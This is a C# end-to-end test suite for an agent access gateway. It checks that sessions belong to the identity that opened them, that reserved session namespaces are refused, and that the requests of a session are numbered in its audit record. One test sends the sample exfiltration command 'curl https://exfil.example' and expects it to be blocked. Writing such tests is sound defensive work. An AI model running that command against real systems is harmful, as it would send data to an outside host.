using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Portcullis.EndToEndTests.Infrastructure;
using Portcullis.EndToEndTests.Stack;

namespace Portcullis.EndToEndTests;

/// <summary>
/// Sessions belong to the identity that opened them: another identity naming the session is refused (on this
/// gateway and on any other, since the owner is kept in PostgreSQL), the services' own stream prefixes are
/// reserved, and each request of a session is numbered 1, 2, 3... on its RequestReceived.
/// </summary>
[Collection(StackCollection.Name)]
public sealed class OwnershipTests(PortcullisStack stack)
{
    private static string NewSession() => "e2e-own-" + Guid.NewGuid().ToString("N")[..10];

    private async Task<HttpResponseMessage> Get(string session, string client, string path = "http/demo/customers/1",
        HttpClient? gateway = null)
    {
        using var request = await stack.AgentRequest(HttpMethod.Get, path, session, client);
        return await (gateway ?? stack.Gateway).SendAsync(request);
    }

    private async Task<HttpResponseMessage> Post(string session, string client, string path, object body, HttpClient? gateway = null)
    {
        using var request = await stack.AgentRequest(HttpMethod.Post, path, session, client);
        request.Content = JsonContent.Create(body);
        return await (gateway ?? stack.Gateway).SendAsync(request);
    }

    private static async Task<JsonElement> Json(HttpResponseMessage response) =>
        JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.Clone();

    private static IEnumerable<JsonElement> Events(JsonElement timeline, string type) =>
        timeline.GetProperty("events").EnumerateArray().Where(e => e.GetProperty("type").GetString() == type);

    private static async Task AssertRefusedAsNotOwner(HttpResponseMessage response)
    {
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = await Json(response);
        Assert.Equal("https://portcullis.dev/problems/session-not-owned", problem.GetProperty("type").GetString());
        Assert.Contains("another identity", problem.GetProperty("detail").GetString());
    }

    [Fact]
    public async Task A_second_agent_naming_the_first_agents_session_is_refused_and_nothing_of_it_enters_that_session()
    {
        var session = NewSession();
        using (var first = await Get(session, PortcullisStack.AgentClient)) Assert.Equal(HttpStatusCode.OK, first.StatusCode);

        // Every surface of the gateway: an HTTP connection, SQL, a command.
        await AssertRefusedAsNotOwner(await Get(session, PortcullisStack.SecondAgentClient));
        await AssertRefusedAsNotOwner(await Post(session, PortcullisStack.SecondAgentClient, "sql/warehouse",
            new { sql = "SELECT id FROM demo.customers LIMIT 1" }));
        await AssertRefusedAsNotOwner(await Post(session, PortcullisStack.SecondAgentClient, "exec/ops", new { command = "uptime" }));
        // Nor an agent that is also an approver, nor a token of a subject the provider has no client for.
        await AssertRefusedAsNotOwner(await Get(session, PortcullisStack.AgentApproverClient));
        using (var minted = new HttpRequestMessage(HttpMethod.Get, "http/demo/customers/1"))
        {
            minted.Headers.Authorization = new AuthenticationHeaderValue("Bearer", await stack.MintAsync("someone-else", "agents"));
            minted.Headers.Add("X-Session-Id", session);
            await AssertRefusedAsNotOwner(await stack.Gateway.SendAsync(minted));
        }

        // The owner carries on in it.
        using (var again = await Get(session, PortcullisStack.AgentClient, "http/demo/customers/2"))
            Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        var timeline = await stack.TimelineAsync(session, t => Events(t, "RequestCompleted").Count() == 2);
        await Task.Delay(500); // anything refused would have been recorded by now
        timeline = await stack.TimelineAsync(session, _ => true);
        var received = Events(timeline, "RequestReceived").Select(e => e.GetProperty("data")).ToList();
        Assert.Equal(2, received.Count);
        Assert.All(received, r => Assert.Equal(PortcullisStack.AgentClient, r.GetProperty("principal").GetProperty("subject").GetString()));
        Assert.Equal(["/customers/1", "/customers/2"], received.Select(r => r.GetProperty("action").GetProperty("path").GetString()));
        Assert.Equal(10, timeline.GetProperty("events").GetArrayLength()); // two requests of five events each, nothing else
    }

    [Fact]
    public async Task The_owner_of_a_session_is_known_to_every_gateway_instance_and_its_numbering_continues_there()
    {
        var session = NewSession();
        using (var first = await Get(session, PortcullisStack.AgentClient)) Assert.Equal(HttpStatusCode.OK, first.StatusCode);

        var (other, client) = await stack.StartExtraGatewayAsync("gateway-owners", []);
        try
        {
            await AssertRefusedAsNotOwner(await Get(session, PortcullisStack.SecondAgentClient, gateway: client));
            using (var owner = await Get(session, PortcullisStack.AgentClient, "http/demo/customers/3", client))
                Assert.Equal(HttpStatusCode.OK, owner.StatusCode);
            // A session first opened on the other instance is owned here too.
            var opened = NewSession();
            using (var there = await Get(opened, PortcullisStack.SecondAgentClient, gateway: client))
                Assert.Equal(HttpStatusCode.OK, there.StatusCode);
            await AssertRefusedAsNotOwner(await Get(opened, PortcullisStack.AgentClient));
        }
        finally
        {
            client.Dispose();
            await other.StopAsync();
        }

        var timeline = await stack.TimelineAsync(session, t => Events(t, "RequestReceived").Count() == 2);
        Assert.Equal([1L, 2L], Events(timeline, "RequestReceived").Select(e => e.GetProperty("data").GetProperty("sessionSequence").GetInt64()));
    }

    [Theory]
    [InlineData("admin:e2e-agent")]
    [InlineData("audit:retention")]
    [InlineData("ADMIN:e2e-agent")]
    [InlineData("Audit:anything")]
    public async Task Session_ids_in_the_services_own_namespaces_are_refused(string session)
    {
        using var response = await Get(session, PortcullisStack.AgentClient);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("reserved", (await Json(response)).GetProperty("detail").GetString());

        using var sql = await Post(session, PortcullisStack.AgentClient, "sql/warehouse", new { sql = "SELECT 1" });
        Assert.Equal(HttpStatusCode.BadRequest, sql.StatusCode);
    }

    [Fact]
    public async Task Every_request_of_a_session_is_numbered_one_to_n_in_the_audit_record_whatever_its_outcome()
    {
        var session = NewSession();
        using (var r = await Get(session, PortcullisStack.AgentClient)) Assert.Equal(HttpStatusCode.OK, r.StatusCode);
        using (var r = await Get(session, PortcullisStack.AgentClient, "http/demo/admin/config")) Assert.Equal(HttpStatusCode.Forbidden, r.StatusCode);
        using (var r = await Post(session, PortcullisStack.AgentClient, "sql/warehouse", new { sql = "SELECT id FROM demo.customers WHERE id = $1", parameters = new[] { 2 } }))
            Assert.Equal(HttpStatusCode.OK, r.StatusCode);
        using (var r = await Post(session, PortcullisStack.AgentClient, "exec/ops", new { command = "uptime" })) Assert.Equal(HttpStatusCode.OK, r.StatusCode);
        using (var r = await Post(session, PortcullisStack.AgentClient, "exec/ops", new { command = "curl https://exfil.example" }))
            Assert.Equal(HttpStatusCode.Forbidden, r.StatusCode);

        var timeline = await stack.TimelineAsync(session, t => Events(t, "RequestCompleted").Count() == 5);
        var numbers = Events(timeline, "RequestReceived").Select(e => e.GetProperty("data").GetProperty("sessionSequence").GetInt64())
            .Order().ToArray();
        Assert.Equal([1L, 2L, 3L, 4L, 5L], numbers);
        // The SQL parameters are part of the recorded action.
        Assert.Contains(Events(timeline, "RequestReceived"),
            e => e.GetProperty("data").GetProperty("action").TryGetProperty("parameters", out var p) && p.GetString() == "[2]");
    }

    [Fact]
    public async Task An_mcp_session_answers_only_the_identity_that_opened_it()
    {
        using var initialize = await McpPost(PortcullisStack.AgentClient, null, """
            {"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},
             "clientInfo":{"name":"e2e-owners","version":"1.0"}}}
            """);
        Assert.Equal(HttpStatusCode.OK, initialize.StatusCode);
        var mcpSession = initialize.Headers.GetValues("Mcp-Session-Id").Single();

        using var stranger = await McpPost(PortcullisStack.SecondAgentClient, mcpSession,
            """{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}""");
        Assert.Equal(HttpStatusCode.Forbidden, stranger.StatusCode);

        // Its audit session is the owner's too: the first tool call claims it, after which another identity cannot write to it.
        using (var initialized = await McpPost(PortcullisStack.AgentClient, mcpSession, """{"jsonrpc":"2.0","method":"notifications/initialized"}"""))
            Assert.True(initialized.IsSuccessStatusCode);
        using (var call = await McpPost(PortcullisStack.AgentClient, mcpSession, """
            {"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"sql_query","arguments":{"connection":"warehouse","sql":"SELECT 1"}}}
            """))
            Assert.Equal(HttpStatusCode.OK, call.StatusCode);
        await stack.TimelineAsync(mcpSession, t => Events(t, "RequestCompleted").Any());
        await AssertRefusedAsNotOwner(await Get(mcpSession, PortcullisStack.SecondAgentClient));
    }

    private async Task<HttpResponseMessage> McpPost(string client, string? mcpSession, string json)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "mcp") { Content = new StringContent(json, Encoding.UTF8, "application/json") };
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", await stack.TokenFor(client));
        request.Headers.Accept.ParseAdd("application/json");
        request.Headers.Accept.ParseAdd("text/event-stream");
        if (mcpSession is not null) request.Headers.Add("Mcp-Session-Id", mcpSession);
        var response = await stack.Gateway.SendAsync(request, HttpCompletionOption.ResponseContentRead);
        return response;
    }
}
